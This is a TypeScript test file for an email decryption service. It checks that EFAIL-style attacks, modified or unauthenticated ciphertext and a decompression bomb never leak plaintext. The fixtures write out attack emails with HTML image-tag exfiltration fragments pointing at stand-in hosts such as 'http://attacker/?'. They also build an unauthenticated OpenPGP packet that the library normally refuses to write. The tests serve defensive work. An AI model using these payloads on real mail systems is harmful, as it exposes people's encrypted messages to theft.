/**
 * EFAIL and related attacks (standards §5.11–5.13): unauthenticated ciphertext, modified
 * ciphertext, ciphertext spliced between attacker-controlled plaintext parts, and a decompression
 * bomb. In every case no plaintext may appear in the result or the served message.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import * as openpgp from 'openpgp';
import { decryptMessage } from '../../../app/crypto/decrypt.ts';
import { buildServedMessage } from '../../../app/crypto/served-message.ts';
import type { TestKey } from '../../helpers/crypto/keys.ts';
import { makeKey, wrapPgpMime } from '../../helpers/crypto/keys.ts';

const SECRET = 'TOP-SECRET-PLAINTEXT-4711';
let alice: TestKey;

before(async () => {
  alice = await makeKey('Alice', 'alice@example.test');
});

function assertNoPlaintext(...bufs: Buffer[]): void {
  for (const b of bufs) assert.ok(!b.toString('latin1').includes(SECRET), 'plaintext leaked');
}

/** A tag-9 Symmetrically Encrypted Data packet (no MDC) for Alice. */
async function tag9Message(): Promise<string> {
  const sessionKey = await openpgp.generateSessionKey({ encryptionKeys: alice.publicKey });
  const pkesk = (await openpgp.encryptSessionKey({
    ...sessionKey,
    encryptionKeys: alice.publicKey,
    format: 'object',
  })) as openpgp.Message<Uint8Array>;
  // openpgp.js types hide these internals; the runtime API is used to build a packet it refuses to write itself.
  const literal = new openpgp.LiteralDataPacket() as unknown as {
    setBytes(b: Uint8Array, format: number): void;
  };
  literal.setBytes(
    new TextEncoder().encode(`Content-Type: text/plain\r\n\r\n${SECRET}\r\n`),
    openpgp.enums.literal.binary,
  );
  const sed = new openpgp.SymmetricallyEncryptedDataPacket() as unknown as {
    packets: openpgp.PacketList<openpgp.AnyPacket>;
    encrypt(algo: number, key: Uint8Array, config: unknown): Promise<void>;
  };
  sed.packets = new openpgp.PacketList();
  sed.packets.push(literal as unknown as openpgp.AnyPacket);
  const algo = (openpgp.enums as unknown as { write(t: unknown, v: string): number }).write(
    openpgp.enums.symmetric,
    sessionKey.algorithm,
  );
  await sed.encrypt(algo, sessionKey.data, { ...openpgp.config, allowUnauthenticatedMessages: true });
  const list = new openpgp.PacketList();
  list.push(...pkesk.packets);
  list.push(sed as unknown as openpgp.AnyPacket);
  return openpgp.armor(openpgp.enums.armor.message, list.write());
}

test('tag-9 SED without MDC is refused: failed, no plaintext', async () => {
  const armored = await tag9Message();
  // sanity: the packet really is tag 9 and really holds the secret (decryptable when unauthenticated data is allowed)
  const m = await openpgp.readMessage({ armoredMessage: armored });
  assert.ok(m.packets.some((p) => p instanceof openpgp.SymmetricallyEncryptedDataPacket));
  const unsafe = await openpgp.decrypt({
    message: m,
    decryptionKeys: alice.privateKey,
    format: 'binary',
    config: { allowUnauthenticatedMessages: true },
  });
  assert.ok(
    Buffer.from(unsafe.data as Uint8Array)
      .toString()
      .includes(SECRET),
  );

  const msg = wrapPgpMime(armored, 'From: eve@example.test\r\nSubject: hi\r\n');
  const r = await decryptMessage(msg, { decryptionKeys: [alice.privateKey] });
  assert.equal(r.status, 'failed');
  assert.match(r.reason!, /not integrity protected/);
  assert.equal(r.mime.length, 0);
  const served = buildServedMessage(msg, r);
  assert.match(
    served.toString(),
    /X-Lockbridge-Encryption: failed\r\nX-Lockbridge-Reason: message is not integrity protected/,
  );
  assertNoPlaintext(r.mime, served);
});

test('bit-flipped SEIPD (MDC failure) is refused at every position tried: failed, no plaintext', async () => {
  const body = `Content-Type: text/plain\r\n\r\n${SECRET}\r\n${'padding line\r\n'.repeat(60)}`;
  const bin = (await openpgp.encrypt({
    message: await openpgp.createMessage({ binary: Buffer.from(body) }),
    encryptionKeys: alice.publicKey,
    format: 'binary',
  })) as Uint8Array;
  // PKESK (~96 bytes) first, then the SEIPD packet holding ~900 bytes of ciphertext + MDC
  assert.ok(bin.length > 900);
  for (const offset of [
    300,
    500,
    Math.floor(bin.length * 0.8),
    bin.length - 22,
    bin.length - 5,
    bin.length - 1,
  ]) {
    const flipped = Uint8Array.from(bin);
    flipped[offset]! ^= 0x01;
    const msg = wrapPgpMime(
      openpgp.armor(openpgp.enums.armor.message, flipped),
      'From: eve@example.test\r\n',
    );
    const r = await decryptMessage(msg, { decryptionKeys: [alice.privateKey] });
    assert.equal(r.status, 'failed', `offset ${offset}`);
    assert.equal(r.mime.length, 0);
    assertNoPlaintext(r.mime, buildServedMessage(msg, r));
  }
});

test('direct exfiltration: ciphertext between HTML parts in multipart/mixed is never decrypted or spliced', async () => {
  const armored = await openpgp.encrypt({
    message: await openpgp.createMessage({
      binary: Buffer.from(`Content-Type: text/plain\r\n\r\n${SECRET}\r\n`),
    }),
    encryptionKeys: alice.publicKey,
  });
  const inner = wrapPgpMime(armored, 'X-Dummy: 1\r\n', 'enc-boundary')
    .toString()
    .replace(/^X-Dummy: 1\r\nMIME-Version: 1.0\r\n/, '');
  const attack = Buffer.from(
    'From: eve@example.test\r\nTo: alice@example.test\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="BOUNDARY"\r\n\r\n' +
      "--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src='http://x/?\r\n" +
      '--BOUNDARY\r\n' +
      inner +
      "\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n'>\r\n" +
      '--BOUNDARY--\r\n',
  );
  const r = await decryptMessage(attack, { decryptionKeys: [alice.privateKey] });
  assert.equal(r.status, 'none');
  assert.match(r.reason!, /left encrypted/);
  const served = buildServedMessage(attack, r);
  assertNoPlaintext(r.mime, served);
  assert.ok(served.toString().includes("<img src='http://x/?"), 'served as it came');
  assert.ok(served.toString().includes('-----BEGIN PGP MESSAGE-----'), 'nested part stays encrypted');

  // Same with an inline armored block as the middle part.
  const inlineAttack = Buffer.from(
    attack.toString().replace(inner, `Content-Type: text/plain\r\n\r\n${armored.replace(/\n/g, '\r\n')}`),
  );
  const r2 = await decryptMessage(inlineAttack, { decryptionKeys: [alice.privateKey] });
  assert.equal(r2.status, 'none');
  assertNoPlaintext(r2.mime, buildServedMessage(inlineAttack, r2));
});

test('HTML built to exfiltrate inside a valid encrypted message stays one document; outer parts cannot join it', async () => {
  // The attacker wraps a captured ciphertext as the root but adds an unencrypted sibling: not a
  // valid PGP/MIME shape (3 parts) → not decrypted.
  const armored = await openpgp.encrypt({
    message: await openpgp.createMessage({
      binary: Buffer.from(`Content-Type: text/html\r\n\r\n<p>${SECRET}</p>\r\n`),
    }),
    encryptionKeys: alice.publicKey,
  });
  const b = 'xyz';
  const threeParts = Buffer.from(
    `From: eve@example.test\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="${b}"\r\n\r\n` +
      `--${b}\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n` +
      `--${b}\r\nContent-Type: application/octet-stream\r\n\r\n${armored}\r\n` +
      `--${b}\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker/?\r\n--${b}--\r\n`,
  );
  const r = await decryptMessage(threeParts, { decryptionKeys: [alice.privateKey] });
  assert.equal(r.status, 'failed');
  assertNoPlaintext(r.mime, buildServedMessage(threeParts, r));
});

test('decompression bomb: compressed payload over the limit is refused', async () => {
  const big = Buffer.alloc(4 * 1024 * 1024, 0x41);
  const armored = await openpgp.encrypt({
    message: await openpgp.createMessage({ binary: big }),
    encryptionKeys: alice.publicKey,
    config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
  });
  assert.ok(armored.length < 100_000, 'really compressed');
  const msg = wrapPgpMime(armored, 'From: eve@example.test\r\n');
  const r = await decryptMessage(msg, {
    decryptionKeys: [alice.privateKey],
    maxDecompressedSize: 1024 * 1024,
  });
  assert.equal(r.status, 'failed');
  assert.equal(r.mime.length, 0);
  const ok = await decryptMessage(msg, { decryptionKeys: [alice.privateKey] });
  assert.equal(ok.status, 'encrypted', 'the default limit admits a 4 MB payload');
});
